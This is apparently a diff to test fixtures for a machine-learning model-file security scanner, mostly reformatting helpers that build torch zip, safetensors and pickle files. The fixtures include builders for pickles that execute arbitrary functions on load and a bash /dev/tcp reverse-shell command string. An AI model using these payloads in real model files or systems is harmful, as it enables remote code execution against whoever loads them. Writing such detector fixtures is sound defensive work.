@@ -79,13 +79,26 @@ NONE, NEWTRUE, NEWFALSE, BINPERSID, DICT = b"N", b"\x88", b"\x89", b"Q", b"d"
 
 def call(module: str, name: str, *args: bytes, protocol: int = 2) -> bytes:
     """A complete pickle that calls module.name(*args) on load (the `__reduce__` shape)."""
-    head = proto(protocol) if protocol >= 2 else b""  # noqa: PLR2004
+    head = proto(protocol) if protocol >= 2 else b""
     return head + global_(module, name) + MARK + b"".join(args) + TUPLE + REDUCE + STOP
 
 
 def stack_call(module: str, name: str, *args: bytes) -> bytes:
     """The protocol 4 form: names on the stack, STACK_GLOBAL, memoized like pickle does."""
-    return proto(4) + s(module) + MEMOIZE + s(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE + MARK + b"".join(args) + TUPLE + REDUCE + STOP
+    return (
+        proto(4)
+        + s(module)
+        + MEMOIZE
+        + s(name)
+        + MEMOIZE
+        + STACK_GLOBAL
+        + MEMOIZE
+        + MARK
+        + b"".join(args)
+        + TUPLE
+        + REDUCE
+        + STOP
+    )
 
 
 REVERSE_SHELL = "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"
@@ -108,7 +121,9 @@ def torch_state_dict_pickle() -> bytes:
     )  # fmt: skip
 
 
-def torch_zip(data_pkl: bytes, *, prefix: str = "archive", crc_ok: bool = True, extra: dict[str, bytes] | None = None) -> bytes:
+def torch_zip(
+    data_pkl: bytes, *, prefix: str = "archive", crc_ok: bool = True, extra: dict[str, bytes] | None = None
+) -> bytes:
     """The zip layout `torch.save` writes: data.pkl, byteorder, data/<key>, version, serialization id."""
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
@@ -223,7 +238,9 @@ def lambda_layer() -> dict[str, object]:
     }
 
 
-def safetensors(tensors: dict[str, tuple[str, list[int], bytes]], *, offsets: dict[str, list[int]] | None = None) -> bytes:
+def safetensors(
+    tensors: dict[str, tuple[str, list[int], bytes]], *, offsets: dict[str, list[int]] | None = None
+) -> bytes:
     header: dict[str, object] = {"__metadata__": {"format": "pt"}}
     data = b""
     for name, (dtype, shape, raw) in tensors.items():
@@ -262,7 +279,9 @@ def findings_for(data: bytes, path: str = "model.bin") -> list[object]:
 
     analyzer = ModelAnalyzer()
     member = Member(path, len(data))
-    view = ArtifactView(ArtifactRef(ArtifactKind.DIRECTORY, "/fixture", "fixture"), ArtifactKind.DIRECTORY, None, (member,))
+    view = ArtifactView(
+        ArtifactRef(ArtifactKind.DIRECTORY, "/fixture", "fixture"), ArtifactKind.DIRECTORY, None, (member,)
+    )
     assert analyzer.select(member, view), path
     facts = from_jsonable(ModelFacts, to_jsonable(analyzer.extract(data)))
     return list(analyzer.judge(view, {path: facts}))
